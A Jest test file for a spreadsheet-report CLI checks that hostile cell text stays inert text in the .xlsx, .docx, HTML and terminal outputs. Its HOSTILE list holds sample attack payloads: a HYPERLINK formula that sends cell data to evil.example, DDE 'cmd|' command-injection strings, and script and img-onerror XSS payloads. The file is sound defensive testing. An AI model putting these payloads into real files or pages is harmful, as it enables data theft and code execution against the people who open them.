// Formula and HTML injection: hostile sheet text stays inert text in every output (plans, .xlsx, .docx, HTML report, check output).
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { runBuild } from '../../cli/commands/build';
import { main } from '../../cli/main';
import { seedText } from '../support/seeds';

/** Cell texts an attacker (or a careless paste) could put in a follow-up. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C notepad\'!A0',
  '@SUM(1+9)*cmd|\' /C calc\'!A0',
  '<img src=x onerror=alert(1)> trygghetsvandring',
  '<script>alert("x")</script> informationsmöte',
  'Möte \u001b[31mrött\u001b[0m i centrum',
];

/** The Eskilstuna seed with each hostile text put in as an activity (and one as a T2 cell). */
function hostileSeed(): string {
  const lines = seedText('eskilstuna-2019').split('\n');
  const header = lines.findIndex((l) => /^Aktivitet\t/.test(l));
  const rows = HOSTILE.map((h, i) => `${h}\t${i}\t${i === 4 ? '<b>fem</b>' : ''}\t`);
  return [...lines.slice(0, header + 1), ...rows, ...lines.slice(header + 1)].join('\n');
}

let dir: string;
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'injection-'));
  writeFileSync(join(dir, 'hostile.txt'), hostileSeed());
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function capture() {
  const out: string[] = [];
  const err: string[] = [];
  return { io: { out: (s: string) => out.push(s), err: (s: string) => err.push(s) }, out, err };
}

describe('hostile sheet text', () => {
  let wb: ExcelJS.Workbook;
  let docXml: string;
  let html: string;

  beforeAll(async () => {
    const { io, err } = capture();
    const code = await runBuild([join(dir, 'hostile.txt'), '-o', join(dir, 'out.xlsx'), '--docx', join(dir, 'out.docx'), '--html', join(dir, 'out.html')], io, { now: new Date(2026, 10, 21) });
    expect([code, err]).toEqual([expect.any(Number), []]);
    wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(dir, 'out.xlsx'));
    docXml = await (await JSZip.loadAsync(readFileSync(join(dir, 'out.docx')))).file('word/document.xml')!.async('string');
    html = readFileSync(join(dir, 'out.html'), 'utf8');
  }, 60000);

  it('is written to the .xlsx as strings, never as formulas, and no formula mentions it', () => {
    const strings: string[] = [];
    const formulas: string[] = [];
    for (const ws of wb.worksheets) {
      ws.eachRow((row) =>
        row.eachCell((c) => {
          const v = c.value as unknown;
          if (typeof v === 'string') strings.push(v);
          else if (v && typeof v === 'object' && 'formula' in (v as object)) formulas.push(String((v as { formula: string }).formula));
          else if (v && typeof v === 'object' && 'richText' in (v as object)) strings.push((v as { richText: { text: string }[] }).richText.map((t) => t.text).join(''));
        }),
      );
    }
    for (const h of HOSTILE.slice(0, 4)) {
      expect(strings).toContain(h);
      expect(formulas.some((f) => f.includes('cmd|') || f.includes('evil.example'))).toBe(false);
    }
    expect(formulas.length).toBeGreaterThan(20); // the sheet's own live formulas are there
  });

  it('is escaped in the .docx report (no raw markup reaches the XML)', () => {
    expect(docXml).not.toMatch(/<img|<script|<b>/);
    expect(docXml).toContain('&lt;img src=x onerror=alert(1)&gt; trygghetsvandring');
    expect(docXml).toContain('&lt;script&gt;');
  });

  it('is escaped in the HTML report: no element, handler or script comes from sheet text', () => {
    expect(html).not.toMatch(/<img[\s>]/i);
    expect(html).not.toMatch(/<script[\s>]/i);
    expect(html).not.toMatch(/<b>fem/);
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('cannot send terminal control sequences through check output', async () => {
    for (const json of [false, true]) {
      const { io, out } = capture();
      await main(['check', join(dir, 'hostile.txt'), ...(json ? ['--json'] : [])], io);
      const text = out.join('\n');
      expect(text).not.toContain('\u001b');
      if (!json) expect(text).toContain('Möte \ufffd[31mrött');
      if (json) expect(() => JSON.parse(text)).not.toThrow();
    }
  });
});
